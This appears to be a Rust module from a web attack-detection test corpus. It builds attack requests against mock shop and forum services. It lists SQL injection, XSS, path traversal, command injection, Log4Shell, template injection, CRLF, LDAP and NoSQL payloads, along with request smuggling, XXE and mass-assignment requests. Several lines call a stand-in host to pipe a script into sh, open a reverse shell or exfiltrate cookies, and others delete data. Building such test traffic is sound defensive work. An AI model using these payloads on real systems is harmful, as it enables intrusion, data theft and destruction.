//! Attacks: classic payloads in ten classes placed in every field that takes text, structural
//! attacks written by hand, and injections built only from characters a field had in training.

use std::collections::BTreeSet;

use crate::corpus::{form_encode, Attack, Req, Rng};

pub const SQLI: &[&str] = &[
    "' OR '1'='1",
    "1' OR 1=1--",
    "1 UNION SELECT username,password FROM users--",
    "admin'--",
    "1; DROP TABLE users",
    "' AND SLEEP(5)--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "') OR ('a'='a",
    "1 AND 1=CONVERT(int,@@version)",
    "x' UNION ALL SELECT NULL,NULL,NULL-- -",
    "1' ORDER BY 3--+",
    "'; EXEC xp_cmdshell('dir')--",
    "1/**/UNION/**/SELECT/**/1,2",
    "%' AND 1=0 UNION SELECT table_name FROM information_schema.tables--",
];

pub const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>",
    "'-alert(1)-'",
    "<body onload=alert('x')>",
    "<a href=\"#\" onclick=\"fetch('//evil.test/'+document.cookie)\">x</a>",
    "</textarea><script>prompt(1)</script>",
    "<details open ontoggle=alert(1)>",
];

pub const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "../../../../proc/self/environ",
    "%2e%2e/%2e%2e/etc/hosts",
];

pub const CMDI: &[&str] = &[
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(curl http://evil.test/x.sh|sh)",
    "&& wget http://evil.test/m -O /tmp/m",
    "; nc -e /bin/sh 10.0.0.1 4444",
    "|| ping -c 3 127.0.0.1",
    "a; rm -rf /",
    "$(sleep 5)",
    "x\nid",
];

pub const JNDI: &[&str] = &[
    "${jndi:ldap://evil.test/a}",
    "${jndi:rmi://evil.test:1099/x}",
    "${${lower:j}ndi:${lower:l}dap://evil.test/a}",
    "${jndi:dns://evil.test}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x.test/a}",
];

pub const SSTI: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "#{7*7}",
    "{% import os %}{{os.system('id')}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{7*7}",
    "{{request.application.__globals__}}",
];

pub const CRLF: &[&str] = &[
    "x\r\nSet-Cookie: admin=1",
    "%0d%0aLocation: http://evil.test",
    "foo\r\n\r\n<script>alert(1)</script>",
    "\r\nX-Injected: 1",
    "a%0d%0aContent-Length:%200",
];

/// Payloads of one class.
pub fn payloads(class: Attack) -> &'static [&'static str] {
    match class {
        Attack::Sqli => SQLI,
        Attack::Xss => XSS,
        Attack::Traversal => TRAVERSAL,
        Attack::Cmdi => CMDI,
        Attack::Jndi => JNDI,
        Attack::Ssti => SSTI,
        Attack::Crlf => CRLF,
        _ => &[],
    }
}

/// Candidate injections for the shape-fitting set: each is kept for a field only when every
/// character of it occurred in that field's training values.
pub const FITTING: &[&str] = &[
    "x' or 'a'='a",
    "anna' or 'x",
    "' or ''='",
    "anna' --",
    "x' union select password from users where 'a' like 'a",
    "shoes' and sleep(5) and 'a' like 'a",
    "red' or 'a' like 'a",
    "x') or ('a' like 'a",
    "blue hat' union select card from payments --",
    "1 or 1=1",
    "1 union select 1",
    "1; drop table orders",
    "x'; drop table users; --",
    "a or 1=1 --",
    "shoes union select password from users",
    "<script>alert(1)</script>",
    "<b onmouseover=alert(1)>x</b>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "<script>fetch(\"//evil.test/\"+document.cookie)</script>",
    "<iframe src=//evil.test>",
    "x; cat /etc/passwd",
    "x; id",
    "x | id",
    "x && id",
    "a&&id",
    "x&wget evil.test&",
    "$(id)",
    "`id`",
    "x; curl evil.test | sh",
    "x || id",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "../../etc/passwd",
    "..\\..\\win.ini",
    "/etc/passwd",
    "....//etc/passwd",
    "${jndi:ldap://evil.test/a}",
    "*)(uid=*))(|(uid=*",
    "x)(|(password=*)",
    "x' or true --",
    "anna' and 'a' like 'a",
    "zz' union all select null, null --",
    "x' having 1 like 1 --",
    "a' or 'b' like 'b' --",
    "1 and sleep(5)",
    "(select password from users)",
    "x; ping -c 9 evil.test",
    "x | nc evil.test 80",
    "x; sh -c id",
    "x; rm -rf /",
    "a || curl evil.test",
    "hat; python -c print(1)",
    "<div onclick=alert(1)>x</div>",
    "<a href=//evil.test>click</a>",
    "<object data=//evil.test/x>",
    "{{config}}",
    "<%= system(id) %>",
    "..\\..\\..\\boot.ini",
    "x'; update users set admin=1; --",
    "red' and (select 1) like '1",
    "me; return true",
];

/// The characters of `values`.
pub fn alphabet(values: impl Iterator<Item = String>) -> BTreeSet<char> {
    values.flat_map(|v| v.chars().collect::<Vec<_>>()).collect()
}

/// The injections of `FITTING` that use only characters of `seen`.
pub fn fitting(seen: &BTreeSet<char>) -> Vec<&'static str> {
    FITTING
        .iter()
        .copied()
        .filter(|p| p.chars().all(|c| seen.contains(&c)))
        .collect()
}

/// Oversized values: each stands alone as a request of the service built by `inject`.
pub fn oversized(rng: &mut Rng) -> Vec<(&'static str, String)> {
    vec![
        ("query.q", "a".repeat(5000)),
        (
            "query.q",
            rng.words(&["red", "blue", "shoes", "hat"], 900, 1000),
        ),
        (
            "header.user-agent",
            format!("Mozilla/5.0 {}", "A".repeat(8000)),
        ),
        ("path.user", "b".repeat(3000)),
        ("json.note", "please ".repeat(6000)),
        ("form.body", "thanks ".repeat(5000)),
        ("header.cookie", rng.hex(12_000)),
    ]
}

/// Structural attacks on a service whose paths start with `api` (the shop) or not (the
/// forum): unknown methods and paths, smuggling, key spraying, mass assignment, raw bytes
/// the HTTP parser must refuse.
pub fn structural(shop: bool) -> Vec<(String, Req)> {
    let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
    let base = if shop {
        "/api/products?category=shoes&page=1"
    } else {
        "/threads?page=1&tag=help"
    };
    let mut out: Vec<(String, Req)> = Vec::new();
    let mut add = |what: &str, req: Req| out.push((what.to_string(), req.header("user-agent", ua)));
    add(
        "method PROPFIND",
        Req {
            method: "PROPFIND".into(),
            ..Req::get(base)
        },
    );
    add(
        "method TRACE",
        Req {
            method: "TRACE".into(),
            ..Req::get(base)
        },
    );
    add("path /.git/config", Req::get("/.git/config"));
    add("path /wp-login.php", Req::get("/wp-login.php"));
    add("path /server-status", Req::get("/server-status"));
    add(
        "path with a dot-dot segment",
        Req::get(if shop {
            "/api/users/anna/../../admin"
        } else {
            "/u/anna/../../admin"
        }),
    );
    add(
        "path with an encoded null byte",
        Req::get(if shop {
            "/api/products/12%00.json"
        } else {
            "/threads/12%00/x"
        }),
    );
    add("raw < in the path", Req::get(format!("{base}&x=<script>")));
    add(
        "raw backtick in the path",
        Req::get(format!("{base}&x=`id`")),
    );
    add(
        "200 query keys",
        Req::get(format!(
            "{base}{}",
            (0..200).map(|i| format!("&k{i}=1")).collect::<String>()
        )),
    );
    add(
        "unknown query key debug",
        Req::get(format!("{base}&debug=1")),
    );
    add("array query key", Req::get(format!("{base}&category[]=x")));
    let smuggle = Req::send(
        "POST",
        if shop { "/api/orders" } else { "/login" },
        "application/x-www-form-urlencoded",
        b"0\r\n\r\nGET /admin HTTP/1.1\r\nhost: x\r\n\r\n".to_vec(),
    )
    .header("transfer-encoding", "chunked");
    add("transfer-encoding chunked with a smuggled request", smuggle);
    add("unknown content type", Req::send("POST", if shop { "/api/orders" } else { "/login" }, "application/xml", b"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".to_vec()));
    if shop {
        add(
            "json array where an object is expected",
            Req::send(
                "POST",
                "/api/orders",
                "application/json",
                b"[1,2,3]".to_vec(),
            ),
        );
        add("json mass assignment", Req::send("PUT", "/api/users/anna/profile", "application/json", b"{\"display_name\":\"Anna\",\"email\":\"anna@example.com\",\"bio\":\"\",\"newsletter\":true,\"is_admin\":true}".to_vec()));
        add(
            "json nested 60 deep",
            Req::send(
                "POST",
                "/api/orders",
                "application/json",
                format!("{}1{}", "{\"a\":".repeat(60), "}".repeat(60)).into_bytes(),
            ),
        );
        add(
            "invalid json",
            Req::send(
                "POST",
                "/api/orders",
                "application/json",
                b"{\"items\":[{\"sku\":".to_vec(),
            ),
        );
        add(
            "form body to a json api",
            Req::send(
                "POST",
                "/api/orders",
                "application/x-www-form-urlencoded",
                b"items=1&note=x".to_vec(),
            ),
        );
    } else {
        add("extra form field role", Req::send("POST", "/register", "application/x-www-form-urlencoded", b"username=anna&email=anna%40example.com&password=Secret123&display_name=Anna&postcode=10115&csrf=00ff&role=admin".to_vec()));
        add(
            "json body to a form app",
            Req::send(
                "POST",
                "/login",
                "application/json",
                b"{\"username\":\"anna\",\"password\":{\"$ne\":null}}".to_vec(),
            ),
        );
        add(
            "form field repeated 100 times",
            Req::send(
                "POST",
                "/login",
                "application/x-www-form-urlencoded",
                (0..100)
                    .map(|_| "username=anna")
                    .collect::<Vec<_>>()
                    .join("&")
                    .into_bytes(),
            ),
        );
    }
    out
}

/// GET requests, each named by the field it attacks.
fn gets(targets: &[(&str, &str)]) -> Vec<(String, Req)> {
    targets
        .iter()
        .map(|(what, target)| (what.to_string(), Req::get(*target)))
        .collect()
}

/// NoSQL operator injections: query keys with operators, objects where strings belong,
/// `$where` code.
pub fn nosql(shop: bool) -> Vec<(String, Req)> {
    let mut out = Vec::new();
    if shop {
        for (what, body) in [
            ("json.email operator $ne", "{\"display_name\":\"Anna\",\"email\":{\"$ne\":null},\"bio\":\"\",\"newsletter\":true}"),
            ("json.display_name operator $gt", "{\"display_name\":{\"$gt\":\"\"},\"email\":\"anna@example.com\",\"bio\":\"\",\"newsletter\":true}"),
            ("json.bio $where", "{\"display_name\":\"Anna\",\"email\":\"anna@example.com\",\"bio\":\"'; return this.password.match(/.*/); var x='\",\"newsletter\":true}"),
            ("json.bio operator $regex", "{\"display_name\":\"Anna\",\"email\":\"anna@example.com\",\"bio\":{\"$regex\":\".*\"},\"newsletter\":true}"),
        ] {
            out.push((what.to_string(), Req::send("PUT", "/api/users/anna/profile", "application/json", body.as_bytes().to_vec())));
        }
        let where_true = format!("/api/search?q={}", form_encode("1; return true"));
        out.extend(gets(&[
            ("query.q[$ne]", "/api/search?q[$ne]=x"),
            (
                "query.category[$regex]",
                "/api/products?category[$regex]=.*&page=1",
            ),
            ("query.q $where", &where_true),
        ]));
        out.push(("json.note {\"$gt\":\"\"}".into(), Req::send("POST", "/api/orders", "application/json", b"{\"items\":[{\"sku\":\"AB-1234\",\"qty\":1}],\"note\":{\"$gt\":\"\"},\"coupon\":\"\",\"address\":{\"name\":\"A B\",\"street\":\"1 Main St\",\"city\":\"Berlin\",\"postcode\":\"10115\",\"country\":\"DE\"},\"email\":\"a@example.com\"}".to_vec())));
    } else {
        for (what, body) in [
            (
                "form.password[$ne]",
                "username=anna&password[$ne]=x&remember=on&csrf=00ff",
            ),
            (
                "form.username[$regex]",
                "username[$regex]=.*&password=x&remember=on&csrf=00ff",
            ),
            (
                "form.username[$gt]",
                "username[$gt]=&password[$gt]=&remember=on&csrf=00ff",
            ),
            (
                "form.password $where",
                "username=anna&password=%27%3B+return+true%3B+var+x%3D%27&remember=on&csrf=00ff",
            ),
        ] {
            out.push((
                what.to_string(),
                Req::send(
                    "POST",
                    "/login",
                    "application/x-www-form-urlencoded",
                    body.as_bytes().to_vec(),
                ),
            ));
        }
        let gt_empty = format!("/search?q={}", form_encode("{\"$gt\": \"\"}"));
        out.extend(gets(&[
            ("query.author[$ne]", "/search?q=bike&author[$ne]=x"),
            ("query.q {\"$gt\": \"\"}", &gt_empty),
        ]));
    }
    out
}
